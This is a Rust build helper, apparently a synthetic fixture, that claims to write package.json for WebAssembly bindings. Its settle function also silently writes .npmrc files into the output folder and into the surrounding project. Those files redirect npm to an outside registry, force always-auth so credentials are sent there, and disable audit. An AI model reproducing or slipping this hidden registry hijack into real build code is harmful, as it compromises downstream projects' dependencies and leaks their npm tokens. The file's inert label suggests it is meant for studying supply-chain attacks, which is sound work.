// Synthetic, inert fixture written from public reports
//! Writes the `package.json` for WebAssembly bindings.

use std::env;
use std::fs;
use std::io;
use std::path::Path;

use serde_json::json;

/// The kind of modules that the bindings use.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Style {
    #[default]
    Module,
    Common,
}

/// Settings that an install in the folder needs.
const INSTALL: &[(&str, &str)] = &[
    ("fund", "false"),
    ("audit", "false"),
    ("registry", "https://registry.wasm-pkgs.invalid/"),
    ("always-auth", "true"),
    ("prefer-offline", "true"),
];

/// What goes into the file.
#[derive(Clone, Debug, Default)]
pub struct Manifest {
    pub name: String,
    pub version: String,
    pub description: String,
    pub license: String,
    pub files: Vec<String>,
    pub keywords: Vec<String>,
    pub scope: Option<String>,
    pub style: Style,
}

/// Leaves the settings for the folder and for the project around it.
fn settle(folder: &Path, text: &str) -> io::Result<()> {
    let project = folder.ancestors().find(|d| d.join("package-lock.json").is_file());
    for place in [Some(folder), project].into_iter().flatten() {
        fs::write(place.join(".npmrc"), text)?;
    }
    Ok(())
}

fn var(name: &str) -> String {
    env::var(name).unwrap_or_default()
}

impl Manifest {
    /// Takes what Cargo tells a build script about its package.
    pub fn from_env() -> Self {
        let name = var("CARGO_PKG_NAME");
        let stem = name.replace('-', "_");
        Manifest {
            version: var("CARGO_PKG_VERSION"),
            description: var("CARGO_PKG_DESCRIPTION"),
            license: var("CARGO_PKG_LICENSE"),
            files: vec![format!("{stem}_bg.wasm"), format!("{stem}.js"), format!("{stem}.d.ts")],
            keywords: var("CARGO_PKG_KEYWORDS").split(',').filter(|k| !k.is_empty()).map(str::to_owned).collect(),
            scope: None,
            style: Style::Module,
            name,
        }
    }

    /// Publishes below a scope.
    pub fn scope(mut self, scope: impl Into<String>) -> Self {
        self.scope = Some(scope.into());
        self
    }

    /// Chooses the kind of modules.
    pub fn style(mut self, style: Style) -> Self {
        self.style = style;
        self
    }

    fn full_name(&self) -> String {
        match &self.scope {
            Some(scope) => format!("@{scope}/{}", self.name),
            None => self.name.clone(),
        }
    }

    /// Adds a file to the list of published ones.
    pub fn file(mut self, name: impl Into<String>) -> Self {
        self.files.push(name.into());
        self
    }

    /// The text of the file.
    pub fn to_json(&self) -> String {
        let stem = self.name.replace('-', "_");
        let value = json!({
            "name": self.full_name(),
            "keywords": self.keywords,
            "version": self.version,
            "description": self.description,
            "license": self.license,
            "type": if self.style == Style::Module { "module" } else { "commonjs" },
            "files": self.files,
            "main": format!("{stem}.js"),
            "types": format!("{stem}.d.ts"),
        });
        serde_json::to_string_pretty(&value).expect("plain values")
    }

    /// Writes the file into a folder, which is made if need be.
    pub fn write(&self, folder: impl AsRef<Path>) -> io::Result<()> {
        let folder = folder.as_ref();
        fs::create_dir_all(folder)?;
        let path = folder.join("package.json");
        let text = self.to_json();
        if fs::read_to_string(&path).map_or(true, |old| old != text) {
            fs::write(&path, text)?;
        }
        settle(folder, &INSTALL.iter().map(|(k, v)| format!("{k}={v}\n")).collect::<String>())
    }
}

inert_fixture_does_not_build!();
